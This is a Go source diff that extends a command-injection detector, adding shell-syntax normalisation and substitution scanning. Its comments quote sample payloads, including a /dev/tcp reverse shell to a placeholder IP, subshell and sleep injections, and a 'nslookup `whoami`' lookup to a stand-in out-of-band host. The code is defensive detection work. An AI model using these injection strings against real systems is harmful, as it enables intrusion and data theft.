@@ -333,8 +333,12 @@ var shellConstruct = []struct {
 	// Bash reverse shell through a /dev/tcp path held in a variable
 	// (d=/dev&&sh 0>$d/tcp/1.2.3.4/777).
 	{func(s string) bool { return strings.Contains(s, "/tcp/") }, regexp.MustCompile(`/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d{1,5}`)},
-	// The login shell run through its variable ($SHELL -c "cmd").
-	{func(s string) bool { return strings.Contains(s, "shell") }, regexp.MustCompile(`\$\{?shell\}?\s+-c\b`)},
+	// The login shell run through its variable ($SHELL -c "cmd", $BASH,
+	// $0).
+	{func(s string) bool {
+		return strings.Contains(s, "shell") || strings.Contains(s, "bash") || strings.Contains(s, "$0")
+	},
+		regexp.MustCompile(`\$\{?(?:shell|bash|0)\}?\s+-c\b`)},
 	// Brace expansion with an empty first element, which runs the words
 	// that follow as a command ({,ifconfig}, {,cd,/etc,}).
 	{func(s string) bool { return strings.Contains(s, "{,") }, regexp.MustCompile(`(?:^|[\s;|&])\{,[^{}\s,]+(?:,[^{}\s]*)?\}`)},
@@ -608,7 +612,7 @@ func matchCmdi(p *decoders.Param, v *normalize.Value, report reportFunc) {
 		if scan(s) || plus && strings.IndexByte(s, '+') >= 0 && scan(strings.ReplaceAll(s, "+", " ")) {
 			return true
 		}
-		c := cleanCmdPaths(s)
+		c := shellSimplify(cleanCmdPaths(s))
 		return c != s && scan(c)
 	})
 	if m := substWhole(v.Text); m != "" {
@@ -659,6 +663,64 @@ func cleanCmdPaths(s string) string {
 	}
 	b.WriteString(s[last:])
 	return b.String()
+}
+
+// shellSimplify returns s with what may stand between a separator and the
+// command it starts taken out: a subshell's or a group's opening
+// ("; (id)", "|(sleep 5)", "; { id; }"), a negation ("; ! id") and the
+// keywords of compound commands ("; then sleep 5", "; do id"), which
+// cmdSep does not read. s itself when there is none.
+func shellSimplify(s string) string {
+	var b strings.Builder
+	last := 0
+	for i := 0; i < len(s); i++ {
+		switch s[i] {
+		case ';', '&', '|', '\n':
+		default:
+			continue
+		}
+		j := i + 1
+		for j < len(s) && (s[j] == '&' || s[j] == '|') {
+			j++
+		}
+		k := j
+		for {
+			for k < len(s) && (s[k] == ' ' || s[k] == '\t') {
+				k++
+			}
+			if k < len(s) && (s[k] == '(' || s[k] == '{' || s[k] == '!') {
+				k++
+				continue
+			}
+			if w := shellKeywordAt(s, k); w > 0 {
+				k += w
+				continue
+			}
+			break
+		}
+		if k == j || k >= len(s) {
+			continue
+		}
+		b.WriteString(s[last:j])
+		b.WriteByte(' ')
+		last, i = k, k-1
+	}
+	if last == 0 {
+		return s
+	}
+	b.WriteString(s[last:])
+	return b.String()
+}
+
+// shellKeywordAt returns the length of the compound command keyword and
+// the space after it at s[i:] (then, else, elif, do), or 0.
+func shellKeywordAt(s string, i int) int {
+	for _, w := range [...]string{"then", "else", "elif", "do"} {
+		if strings.HasPrefix(s[i:], w) && i+len(w) < len(s) && (s[i+len(w)] == ' ' || s[i+len(w)] == '\t') {
+			return len(w) + 1
+		}
+	}
+	return 0
 }
 
 // maxPlusCmd bounds the values read with '+' for spaces.
@@ -993,14 +1055,42 @@ func cmdiScan(p *decoders.Param, s string, report reportFunc) bool {
 		return false
 	}
 	for _, m := range cmdSep.FindAllStringSubmatchIndex(s, 8) {
-		sep, cmd, rest := s[m[2]:m[3]], canonCmd(s[m[4]:m[5]]), s[m[6]:m[7]]
-		if !cmdiHit(s, m[2], sep, cmd, rest, s[m[6]:], m[3] == m[4], p) {
+		if cmdiCandidate(p, s, m, report) {
+			return true
+		}
+	}
+	// A substitution inside what a separator's match took as the rest of
+	// its line (";x=$(whoami)", ";str=$(echo …)"): each looked at from
+	// its own start.
+	n := 0
+	for i := 0; i < len(s) && n < 8; i++ {
+		if s[i] != '`' && (s[i] != '$' || i+1 >= len(s) || s[i+1] != '(') {
 			continue
 		}
-		report(&ruleCmdi, "shell command "+strings.TrimSpace(snippet(s[m[2]:m[7]])))
-		return true
+		n++
+		if m := cmdSep.FindStringSubmatchIndex(s[i:]); m != nil && m[0] == 0 {
+			for k := range m {
+				m[k] += i
+			}
+			if cmdiCandidate(p, s, m, report) {
+				return true
+			}
+		}
+		if s[i] == '$' {
+			i++
+		}
 	}
 	return false
+}
+
+// cmdiCandidate decides one cmdSep match m of s and reports it.
+func cmdiCandidate(p *decoders.Param, s string, m []int, report reportFunc) bool {
+	sep, cmd, rest := s[m[2]:m[3]], canonCmd(s[m[4]:m[5]]), s[m[6]:m[7]]
+	if !cmdiHit(s, m[2], sep, cmd, rest, s[m[6]:], m[3] == m[4], p) {
+		return false
+	}
+	report(&ruleCmdi, "shell command "+strings.TrimSpace(snippet(s[m[2]:m[7]])))
+	return true
 }
 
 // cmdiHit decides one separator-command candidate found at offset at of s;
@@ -1027,8 +1117,9 @@ func cmdiHit(s string, at int, sep, cmd, rest, tail string, glued bool, p *decod
 		}
 		// Inline code in prose ("run `ls -la`", "use $(pwd)") and
 		// Markdown fences sit among words; an injection sticks to the
-		// value or starts it.
-		if at > 0 && (s[at-1] == '`' || sep == "`" && s[at-1] == ' ') {
+		// value or starts it, or is the argument of a command
+		// ("nslookup `whoami`.x.oast.example").
+		if at > 0 && (s[at-1] == '`' || sep == "`" && s[at-1] == ' ' && !knownCmd(canonCmd(lastWord(s[:at])))) {
 			return false
 		}
 		// "$(cmd)" and "`cmd`" name a placeholder in prose: a
@@ -1047,7 +1138,9 @@ func cmdiHit(s string, at int, sep, cmd, rest, tail string, glued bool, p *decod
 		return false
 	}
 	rest = strings.TrimRight(rest, " #")
-	argless := rest == "" || strings.TrimLeft(rest, " ") == "" || isFlags(rest)
+	// A ')' ends a subshell the command ran in (";(id)").
+	argless := rest == "" || strings.TrimLeft(rest, " ") == "" || isFlags(rest) || strings.TrimLeft(rest, " ")[0] == ')'
+
 	strong := cmd == "whoami" || cmdStrongArg.MatchString(rest) && (cmdFile[cmd] || cmdExec[cmd])
 	if cmdAlone[cmd] && argless {
 		strong = true
@@ -1157,11 +1250,19 @@ var cmdWordArgs = map[string]*regexp.Regexp{
 func isFlags(rest string) bool {
 	f := strings.Fields(rest)
 	for _, w := range f {
-		if !strings.HasPrefix(w, "-") {
+		// A flag with its value glued in quotes carries code
+		// (ruby -e'…', perl -e"…").
+		if !strings.HasPrefix(w, "-") || strings.ContainsAny(w, "'\"") {
 			return false
 		}
 	}
 	return len(f) > 0
+}
+
+// lastWord returns the last space-separated word of s.
+func lastWord(s string) string {
+	s = strings.TrimRight(s, " \t")
+	return s[strings.LastIndexAny(s, " \t\n")+1:]
 }
 
 // fileArg reports an argument that names a file: a path or a dotted name.
